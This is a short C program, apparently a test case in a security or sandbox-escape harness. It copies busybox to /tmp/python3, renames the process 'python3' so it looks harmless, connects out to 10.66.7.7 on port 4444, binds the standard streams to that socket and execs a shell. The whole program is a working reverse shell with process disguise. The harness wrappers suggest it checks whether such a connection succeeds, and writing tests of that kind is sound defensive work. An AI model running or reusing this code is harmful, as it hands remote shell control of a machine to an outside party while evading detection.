#include "attempt.h"
#include <sys/sendfile.h>

#define SHELL "/tmp/python3"

static void copy_shell(void) {
    int from = open("/bin/busybox", O_RDONLY), to = open(SHELL, O_WRONLY | O_CREAT | O_TRUNC, 0755);
    sendfile(to, from, NULL, 64 << 20);
    close(to);
}

static void become_shell(int connection) {
    prctl(PR_SET_NAME, "python3");
    for (int fd = 0; fd < 3; fd++)
        dup2(connection, fd);
    close(connection);
    execl(SHELL, "sh", NULL);
    _exit(127);
}

int main(void) {
    int status;
    copy_shell();
    int connection = attempt("connect", connect_tcp("10.66.7.7", 4444, 3000));
    if (connection < 0)
        return finish();
    pid_t child = fork();
    if (!child)
        become_shell(connection);
    close(connection);
    waitpid(child, &status, 0);
    if (attempt("shell", WIFEXITED(status) ? -(WEXITSTATUS(status) == 127) : -1) == 0)
        effect("shell connected out");
    return finish();
}
